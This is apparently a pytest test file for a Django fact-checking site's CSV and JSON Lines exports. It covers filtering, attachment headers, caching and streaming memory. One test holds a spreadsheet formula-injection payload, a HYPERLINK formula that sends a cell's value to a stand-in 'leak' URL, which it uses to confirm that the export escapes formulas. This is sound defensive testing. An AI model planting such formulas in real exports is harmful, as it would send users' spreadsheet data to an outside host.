"""The CSV and JSON Lines exports of published verdicts: filtered as /claims/ is, streamed in constant memory."""

import csv
import io
import json
import tracemalloc

import pytest
from django.core.cache import cache
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from answers import exports
from answers.exports import csv_cell
from answers.models import ClaimListing
from config.cache import current_generation, page_key
from tests.answers.test_api import bench_claims
from tests.conftest import published_revision

pytestmark = pytest.mark.django_db

CSV = reverse("answers:claim-export-csv")
JSONL = reverse("answers:claim-export-jsonl")


def content(response):
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content).decode()


def csv_rows(client, **params):
    return list(csv.DictReader(io.StringIO(content(client.get(CSV, params)), newline="")))


def jsonl_rows(client, **params):
    return [json.loads(line) for line in content(client.get(JSONL, params)).splitlines()]


def test_the_csv_has_a_row_for_each_published_verdict_on_the_claim_list(client, loaded_fixtures):
    rows = csv_rows(client)
    reviewed = ClaimListing.objects.listed().filter(published_revision__isnull=False)
    assert sorted(int(row["claim_id"]) for row in rows) == sorted(reviewed.values_list("claim_id", flat=True))
    row = next(row for row in rows if row["evidence"])
    listing = reviewed.get(claim_id=row["claim_id"])
    revision = listing.published_revision
    assert (row["claim_reviewed"], row["rationale"], row["verdict"], row["verdict_slug"]) == (
        revision.claim_text,
        revision.rationale,
        listing.verdict.label,
        listing.verdict.slug,
    )
    assert row["evidence"].split("\n") == [event.name for event in revision.evidence.all()]
    assert row["claim_url"].endswith(f"/claims/{listing.claim_id}/")
    assert row["reviewed_at"].startswith(listing.reviewed_at.date().isoformat())


def test_a_verdict_that_does_not_rate_truth_has_an_empty_rating_cell(client, loaded_fixtures):
    ratings = {row["verdict_slug"]: row["rating_value"] for row in csv_rows(client)}
    assert ratings.get("opinion", "") == "" and ratings["accurate"] == "5"


def test_each_jsonl_line_is_the_apis_claim_object(client, loaded_fixtures):
    rows = jsonl_rows(client)
    assert len(rows) == ClaimListing.objects.listed().filter(published_revision__isnull=False).count()
    first = rows[0]
    assert first == client.get(reverse("api:claim-detail", args=[first["id"]])).json()


def test_the_exports_take_the_filters_and_the_order_of_the_claim_list(client, loaded_fixtures):
    rows = jsonl_rows(client, verdict="inaccurate", ordering="-reviewed")
    assert rows and {row["verdict"]["slug"] for row in rows} == {"inaccurate"}
    assert [row["reviewed_at"] for row in rows] == sorted((row["reviewed_at"] for row in rows), reverse=True)
    assert len(csv_rows(client, verdict="inaccurate")) == len(rows)


def test_a_bad_filter_is_a_400_that_names_the_field(client, loaded_fixtures):
    response = client.get(CSV, {"verdict": "no-such-verdict", "reviewed_after": "tomorrow"})
    assert response.status_code == 400
    assert {line.split(":")[0] for line in response.content.decode().splitlines()} == {"verdict", "reviewed_after"}


def test_the_files_are_named_attachments(client, loaded_fixtures):
    for url, extension, media_type in ((CSV, "csv", "text/csv"), (JSONL, "jsonl", "application/jsonl")):
        response = client.get(url)
        assert response["Content-Type"].startswith(media_type)
        assert response["Content-Disposition"].startswith('attachment; filename="factline-verdicts-')
        assert response["Content-Disposition"].endswith(f'.{extension}"')


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_is_escaped(text):
    assert csv_cell(text) == "'" + text


def test_cells_that_cannot_start_a_formula_are_left_alone():
    assert [csv_cell(value) for value in ("Kars 1921", "a=b", 5, None, True)] == ["Kars 1921", "a=b", 5, "", "true"]


def test_a_rationale_written_as_a_formula_reaches_the_csv_as_text(client, claim, editor, reviewer):
    formula = '=HYPERLINK("https://example.com/?leak="&A1,"Read the source")'
    published_revision(claim, editor, reviewer, "inaccurate", formula)
    [row] = csv_rows(client)
    assert row["rationale"] == "'" + formula
    assert jsonl_rows(client)[0]["rationale"] == formula


def test_the_claim_list_links_the_exports_with_its_filters(client, loaded_fixtures):
    page = client.get(reverse("answers:claim-list"), {"verdict": "inaccurate", "page": "last"}).content.decode()
    assert f'href="{CSV}?verdict=inaccurate"' in page and f'href="{JSONL}?verdict=inaccurate"' in page


def test_the_page_cache_passes_the_stream_through_and_keeps_none_of_it(client, loaded_fixtures, settings):
    settings.FACTLINE_PAGE_CACHE = True
    with CaptureQueriesContext(connection) as queries:
        response = client.get(CSV)
    # Through every middleware before a row is read: nothing waits for the whole file.
    assert response.streaming and not [query for query in queries if "claimlisting" in query["sql"]]
    assert "X-Cache" not in response and "ETag" not in response
    content(response)
    generation = current_generation()
    assert cache.get(page_key(RequestFactory().get(CSV), generation)) is None
    client.get(reverse("answers:claim-list"))  # the cache is on: it keeps whole pages
    assert cache.get(page_key(RequestFactory().get(reverse("answers:claim-list")), generation)) is not None


def export_peak(client, url):
    """Return the bytes the export's rows came to, and the peak of Python's memory while they were streamed."""
    response = client.get(url)
    size = 0
    tracemalloc.start()
    try:
        for chunk in response.streaming_content:
            size += len(chunk)
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("url", [CSV, JSONL])
def test_an_export_streams_in_the_same_memory_at_ten_times_the_claims(client, loaded_fixtures, monkeypatch, url):
    monkeypatch.setattr(exports, "CHUNK", 50)  # many chunks at either size, in a test that takes seconds
    measured = []
    for size in (300, 3000):
        with bench_claims(size):
            measured.append(export_peak(client, url))
    (small_size, small_peak), (large_size, large_peak) = measured
    print(f"{url}: {small_size:,} bytes, peak {small_peak:,}; {large_size:,} bytes, peak {large_peak:,}")
    assert large_size > 6 * small_size
    assert large_peak < 1.5 * small_peak + 256 * 1024
